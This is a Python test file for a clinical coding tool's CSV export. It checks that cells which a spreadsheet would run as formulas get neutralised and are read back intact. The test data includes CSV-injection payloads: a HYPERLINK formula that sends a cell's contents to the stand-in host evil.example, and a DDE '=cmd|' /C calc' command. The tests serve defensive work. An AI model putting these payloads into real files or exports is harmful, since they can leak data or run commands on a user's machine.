"""Every CSV icdreason writes neutralises text cells that a spreadsheet would run as a formula (OWASP: a leading
``'``), keeps numbers as numbers, and reads its own files back to the original values."""

from __future__ import annotations

import csv
import io
import json

import pytest
from audit_fixtures import NOTES, record, write_predictions

from icdreason.cli import app

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_IDS = [HYPERLINK, "-5", "+1 (555) 0100", "@SUM(A1:A9)", "'=already quoted"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formula_free(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r"


def test_neutralize_and_restore_round_trip():
    from icdreason.tables.cells import neutralize, restore

    for value in [*FORMULA_IDS, "I21.4", "", "it's fine", "'", "''-x", "a=b"]:
        assert restore(neutralize(value)) == value
        assert _formula_free(neutralize(value))
    assert neutralize("=1+1") == "'=1+1" and neutralize("'=x") == "''=x" and neutralize("I21.4") == "I21.4"
    assert neutralize(-0.5) == -0.5 and neutralize(None) is None  # numbers are numbers, not text


def test_predict_csv_neutralises_text_cells_and_reads_them_back(runner, use_kb, tmp_path):
    notes = tmp_path / "notes.jsonl"
    texts = ["=cmd|' /C calc'!A0 chest pain, troponin up", "\t=1+1 fever and cough"] + ["chest pain"] * 3
    notes.write_text("".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in zip(FORMULA_IDS, texts)))
    out = tmp_path / "preds.csv"
    first = runner.invoke(app, ["predict", str(notes), "--out", str(out), "-q"])
    assert first.exit_code == 0, first.stderr
    rows = _cells(out.read_text(encoding="utf-8"))
    header, body = rows[0], rows[1:]
    assert all(_formula_free(cell) for row in rows for cell in row)
    ids = [row[header.index("id")] for row in body]
    assert ids == ["'" + i for i in FORMULA_IDS]
    assert body[0][header.index("note")].startswith("'=cmd|") and body[1][header.index("note")].startswith("'\t=1+1")
    assert all(float(row[header.index("seconds")]) >= 0 for row in body)  # numbers stay plain numbers

    again = runner.invoke(app, ["predict", str(notes), "--out", str(out), "--resume", "-q"])
    assert again.exit_code == 0, again.stderr
    assert "(5 already there)" in again.stderr and len(_cells(out.read_text(encoding="utf-8"))) == 6

    gold = tmp_path / "gold.jsonl"
    gold.write_text("".join(json.dumps({"id": i, "code": "I21.4"}) + "\n" for i in FORMULA_IDS))
    scored = runner.invoke(app, ["eval", str(out), "--gold", str(gold), "--out", "-"])
    assert scored.exit_code == 0, scored.stderr
    run = json.loads(scored.stdout)["runs"][0]
    assert (run["matched"], run["missing_predictions"], run["unmatched_predictions"]) == (5, 0, 0)


def test_validate_csv_neutralises_inputs(runner, kb_file):
    result = runner.invoke(app, ["validate", "--format", "csv", "--", "=1+1", "-A00", "@A1", "I21.4"])
    assert result.exit_code == 1
    rows = _cells(result.stdout)
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'-A00", "'@A1", "I21.4"]
    assert all(_formula_free(cell) for row in rows for cell in row)


@pytest.fixture
def audit_db(tmp_path, built_kb, monkeypatch, runner):
    monkeypatch.setenv("ICDREASON_KB", str(built_kb))
    records = [record(*n) for n in NOTES]
    records[0]["id"] = "-5"
    preds = write_predictions(tmp_path / "pred.jsonl", records)
    db = tmp_path / "audit.duckdb"
    assert runner.invoke(app, ["audit", "start", str(preds), "--reviewer", "alice", "--db", str(db)],
                         input="q\n").exit_code == 0
    return db


def test_rejected_rows_csv_neutralises_cells(runner, audit_db, tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text('case_id,reviewer,decision\n"=cmd|\' /C calc\'!A0",alice,accept\n-5,@bob,accept\n')
    out = tmp_path / "rejected.csv"
    result = runner.invoke(app, ["audit", "import", str(sheet), "--db", str(audit_db), "--rejected-out", str(out)])
    assert result.exit_code == 1
    rows = _cells(out.read_text(encoding="utf-8"))
    assert [r[1:3] for r in rows[1:]] == [["'=cmd|' /C calc'!A0", "alice"], ["'-5", "'@bob"]]
    assert all(_formula_free(cell) for row in rows for cell in row)


def test_pending_file_neutralises_cells_and_the_next_start_restores_them(runner, audit_db):
    from icdreason.audit import AuditStore, Decision
    from icdreason.audit.pending import PendingFile, pending_path

    store = AuditStore.open(audit_db)
    pending = PendingFile(pending_path(store, "alice"))
    pending.save([Decision("alice", "-5", "reject", reason="other", comment=HYPERLINK,
                           predictions_sha256=store.info().predictions_sha256)])
    text = pending.path.read_text(encoding="utf-8")
    assert all(_formula_free(cell) for row in _cells(text) for cell in row)
    started = runner.invoke(app, ["audit", "start", str(audit_db.parent / "pred.jsonl"), "--reviewer", "alice",
                                  "--db", str(audit_db)], input="q\n")
    assert "Wrote 1 decision(s)" in started.stderr, started.stderr
    (decision,) = AuditStore.open(audit_db).decisions("alice")
    assert (decision.case_id, decision.comment) == ("-5", HYPERLINK)
